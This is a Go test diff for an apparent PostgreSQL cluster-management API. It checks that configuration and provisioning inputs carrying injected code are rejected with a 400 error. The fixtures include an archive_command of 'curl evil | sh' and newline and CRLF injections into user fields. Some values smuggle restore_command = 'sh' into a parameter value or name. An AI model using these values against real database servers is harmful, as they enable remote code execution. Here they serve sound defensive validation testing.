@@ -401,3 +401,41 @@ func TestValidate_BackupSchedules(t *testing.T) {
 		}
 	}
 }
+
+func TestValidate_ConfigurationInputCannotBecomeCode(t *testing.T) {
+	u := startSingle(t).URL
+	for _, tc := range []struct {
+		body  map[string]any
+		field string
+	}{
+		{map[string]any{"name": "a", "pg_user": "cm\nhost=evil"}, "settings.pg_user"},
+		{map[string]any{"name": "a", "replication_user": "r\r\nx"}, "settings.replication_user"},
+		{map[string]any{"name": "a", "pg_password": "pw\x00"}, "settings.pg_password"},
+	} {
+		r := do(t, "POST", u+"/v1/clusters", tc.body)
+		mustStatus(t, r, http.StatusBadRequest)
+		if p := r.problem(t); p.Field != tc.field || strings.Contains(p.Detail, "evil") {
+			t.Errorf("%v: field %q detail %q", tc.body, p.Field, p.Detail)
+		}
+	}
+	// Provisioning parameters are checked before anything starts (this
+	// replica runs no pipeline: a valid request would get 503).
+	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
+	for _, tc := range []struct {
+		params map[string]string
+		field  string
+	}{
+		{map[string]string{"archive_command": "curl evil | sh"}, "parameters.archive_command"},
+		{map[string]string{"shared_preload_libraries": "evil"}, "parameters.shared_preload_libraries"},
+		{map[string]string{"work_mem": "4MB\nrestore_command = 'sh'"}, "parameters.work_mem"},
+		{map[string]string{"x\nrestore_command": "sh"}, `parameters."x\nrestore_command"`},
+	} {
+		body := map[string]any{"name": "s1", "provision": true, "parameters": tc.params,
+			"nodes": []map[string]any{{"name": "pg1", "host": "127.0.0.1", "port": 5432, "agent": "http://127.0.0.1:1", "data_dir": "/x/pg1"}}}
+		r := do(t, "POST", u+"/v1/clusters/app/shards", body)
+		mustStatus(t, r, http.StatusBadRequest)
+		if p := r.problem(t); p.Field != tc.field {
+			t.Errorf("%v: field %q (%s), want %q", tc.params, p.Field, p.Detail, tc.field)
+		}
+	}
+}
